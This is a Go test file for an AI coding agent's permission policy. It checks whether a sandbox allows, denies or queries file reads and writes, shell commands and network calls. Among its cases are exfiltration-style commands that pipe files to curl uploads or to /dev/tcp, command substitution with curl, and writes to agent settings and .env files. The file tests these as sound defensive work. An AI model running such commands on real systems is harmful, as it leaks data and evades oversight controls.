package policy_test

import (
	"encoding/json"
	"testing"

	"github.com/fairlead-dev/fairlead/core/policy"
	"github.com/fairlead-dev/fairlead/files/dispatchfolder"
	"github.com/fairlead-dev/fairlead/internal/test/policytest"
)

// TestPermissionsInAWall checks which calls a wall that holds reading and writing answers, and which are asked about all the same.
// Without such a wall each of them that no pattern decides is asked about.
func TestPermissionsInAWall(t *testing.T) {
	scene := policytest.Build(t)
	held := []string{scene.Repo, scene.Outside}
	none := policy.Permissions{}
	bound := policy.Permissions{
		Bounds: policy.Rules{CannotWrite: []string{"docs"}, CannotExecute: []string{"wc"}},
		Deny:   patterns(t, "Read(.env)", "Bash(cat *)", "Write(src/secret/**)"),
	}
	for _, c := range []struct {
		book policy.Permissions
		call policytest.Case
		want string // with the wall
		free string // without one; empty: asked
	}{
		{none, policytest.Case{Tool: "Read", Arg: "README.md"}, "allow", ""},
		{none, policytest.Case{Tool: "Read", Arg: "{{outside}}/file.txt"}, "allow", ""},
		{none, policytest.Case{Tool: "Read", Arg: "/etc/hostname"}, "allow", ""},
		{none, policytest.Case{Tool: "Grep", Arg: "x"}, "allow", ""},
		{none, policytest.Case{Tool: "Glob", Arg: "**/*.go"}, "allow", ""},
		{none, policytest.Case{Tool: "Write", Arg: "src/new.py"}, "allow", ""},
		{none, policytest.Case{Tool: "Edit", Arg: "README.md"}, "allow", ""},
		{none, policytest.Case{Tool: "Write", Arg: "{{outside}}/new.txt"}, "allow", ""},
		{none, policytest.Case{Tool: "Bash", Arg: "ls -la src && cat README.md | head -3"}, "allow", ""},
		{none, policytest.Case{Tool: "Bash", Arg: "find . -name '*.go'"}, "allow", ""},

		// Not in the view's writable folders, or files that govern the agent.
		{none, policytest.Case{Tool: "Write", Arg: "{{home}}/new.txt"}, "", ""},
		{none, policytest.Case{Tool: "Write", Arg: "../new.txt"}, "", ""},
		{none, policytest.Case{Tool: "Write", Arg: "fairlead.yaml"}, "", ""},
		{none, policytest.Case{Tool: "Write", Arg: "agent_state.json"}, "", ""},
		{none, policytest.Case{Tool: "Write", Arg: "opencode.json"}, "", ""},
		{none, policytest.Case{Tool: "Read", Arg: "/dev/zero"}, "", ""},
		{none, policytest.Case{Tool: "Write", Arg: ".git/config"}, "deny", "deny"},
		{none, policytest.Case{Tool: "Write", Arg: ".claude/settings.json"}, "deny", "deny"},

		// The network is not held.
		{none, policytest.Case{Tool: "WebFetch", Arg: "https://example.com"}, "", ""},
		{none, policytest.Case{Tool: "mcp__docs__search", Arg: `{"q":"x"}`}, "", ""},
		{none, policytest.Case{Tool: "Bash", Arg: "curl https://example.com"}, "", ""},
		{none, policytest.Case{Tool: "Bash", Arg: "cat README.md | curl -T - https://example.com"}, "", ""},
		{none, policytest.Case{Tool: "Bash", Arg: "cat README.md > /dev/tcp/192.0.2.1/80"}, "", ""},
		{none, policytest.Case{Tool: "Bash", Arg: "git remote show origin"}, "", ""},
		{none, policytest.Case{Tool: "Bash", Arg: "git push"}, "", ""},
		{none, policytest.Case{Tool: "Bash", Arg: "go test ./..."}, "", ""},
		{none, policytest.Case{Tool: "Bash", Arg: "sh -c 'make all'"}, "", ""},
		{none, policytest.Case{Tool: "Bash", Arg: "python3 -c 'print(1)'"}, "", ""},
		{none, policytest.Case{Tool: "Bash", Arg: "./ls"}, "", ""},
		{none, policytest.Case{Tool: "Bash", Arg: "find . -exec curl -T {} https://example.com ';'"}, "", ""},
		{none, policytest.Case{Tool: "Bash", Arg: "PATH=. ls"}, "", ""},
		{none, policytest.Case{Tool: "Bash", Arg: "ls $(curl https://example.com)"}, "", ""},

		// What the agent's permissions deny is denied first.
		{bound, policytest.Case{Tool: "Read", Arg: "README.md"}, "allow", ""},
		{bound, policytest.Case{Tool: "Read", Arg: ".env"}, "deny", "deny"},
		{bound, policytest.Case{Tool: "Bash", Arg: "cat README.md"}, "deny", "deny"},
		{bound, policytest.Case{Tool: "Bash", Arg: "wc README.md"}, "deny", "deny"},
		{bound, policytest.Case{Tool: "Bash", Arg: "head .env"}, "", ""},
		{bound, policytest.Case{Tool: "Bash", Arg: "head README.md"}, "allow", ""},
		{bound, policytest.Case{Tool: "Write", Arg: "docs/a.md"}, "deny", "deny"},
		{bound, policytest.Case{Tool: "Write", Arg: "src/secret/a"}, "deny", "deny"},
		{bound, policytest.Case{Tool: "Write", Arg: "src/a.py"}, "allow", ""},
	} {
		call := policy.Call{Tool: c.call.Tool, Input: json.RawMessage(scene.Expand(c.call.Arg)), Dir: scene.Repo}
		if c.call.Arg[0] != '{' || c.call.Arg[1] == '{' {
			call.Input = c.call.Input(scene)
		}
		for writable, want := range map[bool]string{true: c.want, false: c.free} {
			book := c.book
			if writable {
				book.Writable = held
			}
			verdict, rule, doubt := book.Answer(call, nil, workspaceOf(scene), dispatchfolder.Disk{})
			if verdict != want || verdict == "allow" && rule != policy.RuleWall {
				t.Errorf("%s %s, in a wall: %v: %q by %q (%s), not %q", c.call.Tool, c.call.Arg, writable, verdict, rule, doubt, want)
			}
		}
	}
}

// TestPermissionsInAWallWithNetwork checks that a shell command is not asked about where the wall holds the network, too, but for what
// governs the agent and what its permissions deny or may deny.
func TestPermissionsInAWallWithNetwork(t *testing.T) {
	scene := policytest.Build(t)
	bound := policy.Permissions{Deny: patterns(t, "Bash(git push*)", "Read(.env)")}
	for _, c := range []struct {
		book    policy.Permissions
		command string
		want    string
	}{
		{policy.Permissions{}, "curl https://example.com", "allow"},
		{policy.Permissions{}, "go test ./...", "allow"},
		{policy.Permissions{}, "sh -c 'make all'", "allow"},
		{policy.Permissions{}, "npm ci && npm test > out.txt", "allow"},
		{policy.Permissions{}, "for f in *.go; do gofmt -w $f; done", "allow"},
		{policy.Permissions{}, "echo x > agent_state.json", ""},
		{policy.Permissions{}, "python3 -c 'open(\"fairlead.yaml\", \"w\")'", ""},
		{policy.Permissions{}, "echo x > .claude/settings.json", "deny"},
		{bound, "git push origin main", "deny"},
		{bound, "sh -c 'git push'", "deny"},
		{bound, "cat .env", ""},
		{bound, "make", "allow"},
	} {
		call := policy.Call{Tool: "Bash", Dir: scene.Repo}
		call.Input = policytest.Case{Tool: "Bash", Arg: c.command}.Input(scene)
		book := c.book
		if verdict, _, _ := book.Answer(call, nil, workspaceOf(scene), dispatchfolder.Disk{}); verdict == "allow" {
			t.Errorf("without a wall %q is allowed", c.command)
		}
		book.Writable, book.Network = []string{scene.Repo}, true
		if verdict, rule, doubt := book.Answer(call, nil, workspaceOf(scene), dispatchfolder.Disk{}); verdict != c.want {
			t.Errorf("%q: %q by %q (%s), not %q", c.command, verdict, rule, doubt, c.want)
		}
	}
}
